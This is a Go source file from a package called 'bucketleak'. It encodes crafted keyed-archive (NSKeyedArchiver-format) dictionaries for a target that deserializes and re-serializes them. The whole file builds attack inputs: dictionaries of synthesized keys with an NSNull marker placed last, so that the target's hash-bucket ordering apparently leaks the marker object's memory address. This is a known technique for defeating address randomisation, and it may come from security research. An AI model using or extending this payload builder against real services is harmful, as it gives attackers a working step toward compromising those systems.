package bucketleak

import (
	"fmt"
	"reflect"

	"github.com/fxamacker/cbor/v2"
)

// The serialized container is a keyed-archive document: an indexed object
// table plus a root reference. The field names follow the archiver
// conventions of the system under test so that the round-trip collaborator
// accepts the documents unchanged.
const (
	archiverName   = "NSKeyedArchiver"
	archiveVersion = 100000

	// markerClassName is the well-known class of the process-unique
	// marker object whose address is being reconstructed.
	markerClassName = "NSNull"

	containerClassName = "NSDictionary"
)

// uidField is the single key of a reference map. A table entry or record
// field that is the map {"$uid": n} is an index into the object table;
// anything else is an inline value.
const uidField = "$uid"

// encMode encodes archive documents with Core Deterministic Encoding so
// that identical containers always serialize to identical bytes (corpus
// digests and replay matching rely on this).
var encMode cbor.EncMode

// decMode decodes archive documents. DefaultMapType forces any-typed
// targets to map[string]any, which is what the reference resolver pattern
// matches on.
var decMode cbor.DecMode

func init() {
	var err error
	encMode, err = cbor.CoreDetEncOptions().EncMode()
	if err != nil {
		panic("bucketleak: CBOR encoder initialization failed: " + err.Error())
	}
	decMode, err = cbor.DecOptions{
		DefaultMapType: reflect.TypeOf(map[string]any(nil)),
	}.DecMode()
	if err != nil {
		panic("bucketleak: CBOR decoder initialization failed: " + err.Error())
	}
}

// archiveDocument is the top-level shape of the wire format.
type archiveDocument struct {
	Archiver string         `cbor:"$archiver"`
	Version  uint64         `cbor:"$version"`
	Top      map[string]any `cbor:"$top"`
	Objects  []any          `cbor:"$objects"`
}

// uid builds a reference to object table index n.
func uid(n uint64) map[string]any {
	return map[string]any{uidField: n}
}

// EncodeArchive serializes the container into a keyed-archive document.
// The marker reference is appended last to the key list so the target
// inserts it after every synthesized key has claimed its bucket.
func EncodeArchive(c *Container) ([]byte, error) {
	keys := make([]ArchiveKey, 0, len(c.Keys)+1)
	for _, k := range c.Keys {
		keys = append(keys, ArchiveKey{Value: k})
	}
	keys = append(keys, ArchiveKey{Marker: true})

	data, err := EncodeArchiveKeys(keys)
	if err != nil {
		return nil, fmt.Errorf("encode archive (modulus %d, pattern %s): %w",
			c.Modulus, c.Pattern, err)
	}
	return data, nil
}

// EncodeArchiveKeys serializes an explicit key order into a keyed-archive
// document. The round-trip simulator and test fixtures use this to
// reserialize containers in their post-placement order.
//
// Object table layout: index 0 is the conventional "$null" entry, index 1
// is the container record, followed by one entry per key (inline numeric
// values, a record for the marker), and finally the class records.
func EncodeArchiveKeys(keys []ArchiveKey) ([]byte, error) {
	numKeys := uint64(len(keys))

	containerClassIdx := 2 + numKeys
	markerClassIdx := containerClassIdx + 1

	keyRefs := make([]any, 0, numKeys)
	valueRefs := make([]any, 0, numKeys)
	objects := make([]any, 0, int(markerClassIdx)+1)

	objects = append(objects, "$null")
	objects = append(objects, map[string]any{
		"$class": uid(containerClassIdx),
	})

	for i, key := range keys {
		if key.Marker {
			objects = append(objects, map[string]any{"$class": uid(markerClassIdx)})
		} else {
			objects = append(objects, key.Value)
		}
		keyRefs = append(keyRefs, uid(2+uint64(i)))
		valueRefs = append(valueRefs, uid(0))
	}

	objects = append(objects, map[string]any{
		"$classname": containerClassName,
		"$classes":   []any{containerClassName, "NSObject"},
	})
	objects = append(objects, map[string]any{
		"$classname": markerClassName,
		"$classes":   []any{markerClassName, "NSObject"},
	})

	root := objects[1].(map[string]any)
	root["NS.keys"] = keyRefs
	root["NS.objects"] = valueRefs

	doc := archiveDocument{
		Archiver: archiverName,
		Version:  archiveVersion,
		Top:      map[string]any{"root": uid(1)},
		Objects:  objects,
	}
	return encMode.Marshal(doc)
}
